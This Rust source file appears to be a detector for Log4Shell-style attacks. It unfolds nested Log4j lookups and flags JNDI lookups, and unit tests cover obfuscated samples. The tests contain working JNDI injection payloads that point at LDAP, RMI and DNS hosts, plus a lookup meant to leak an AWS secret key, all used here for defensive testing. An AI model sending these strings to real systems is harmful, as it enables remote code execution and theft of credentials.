//! JNDI / Log4Shell: unfolds Log4j lookups from the innermost out (`${lower:j}`,
//! `${upper:x}`, `${::-j}`, `${env:X:-j}`, `${date:'j'}`) and reports a `jndi:`
//! lookup, or any Log4j lookup, in the result.

use super::norm::Norm;
use super::{Finding, InputContext, Level};

const LOOKUPS: &[&str] = &[
    "jndi", "lower", "upper", "env", "sys", "java", "main", "ctx", "date", "base64", "log4j",
    "marker", "sd", "bundle", "docker", "k8s", "spring", "web", "event", "map", "hostname",
];

/// Detects a Log4j lookup in one value.
pub fn detect(n: &Norm, _ctx: InputContext) -> Option<Finding> {
    let s = n.lower.as_str();
    if !s.contains("${") {
        return None;
    }
    let folded = unfold(s);
    if folded.contains("${jndi:") || folded.contains("\u{1}jndi") {
        return Some(Finding::new(Level::Pl1, "JNDI lookup", &folded));
    }
    let lookup = LOOKUPS.iter().any(|l| s.contains(&format!("${{{l}:")));
    if lookup || s.contains("${${") {
        return Some(Finding::new(Level::Pl1, "Log4j lookup", s));
    }
    None
}

/// Replaces innermost lookups by their value until none is left.
pub fn unfold(s: &str) -> String {
    let mut cur = s.to_string();
    for _ in 0..32 {
        let Some(start) = cur.rfind("${") else { break };
        let Some(len) = cur[start..].find('}') else {
            break;
        };
        let inner = &cur[start + 2..start + len];
        let value = lookup_value(inner);
        cur = format!("{}{}{}", &cur[..start], value, &cur[start + len + 1..]);
    }
    cur
}

fn lookup_value(inner: &str) -> String {
    if inner.starts_with("jndi:") {
        return format!("\u{1}{inner}");
    }
    if let Some(p) = inner.find(":-") {
        return inner[p + 2..].to_string();
    }
    for pre in ["lower:", "upper:"] {
        if let Some(v) = inner.strip_prefix(pre) {
            return v.to_string();
        }
    }
    if let Some(v) = inner.strip_prefix("date:") {
        return v.trim_matches('\'').to_string();
    }
    String::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lvl(s: &str) -> Option<Level> {
        detect(&Norm::new(s), InputContext::Header).map(|f| f.level)
    }

    #[test]
    fn catches_lookups() {
        for s in [
            "${jndi:ldap://example.net/a}",
            "${${lower:j}ndi:rmi://example.net/b}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://example.net/c}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/d}",
            "${j${date:'n'}di:ldap://x}",
            "%24%7Bjndi:ldap://x/e%7D",
            "${env:AWS_SECRET_ACCESS_KEY}",
        ] {
            assert_eq!(lvl(s), Some(Level::Pl1), "{s}");
        }
    }

    #[test]
    fn passes_benign() {
        for s in ["${HOME}/bin", "price is $5 {approx}", "jndi lookup docs"] {
            assert_eq!(lvl(s), None, "{s}");
        }
    }
}
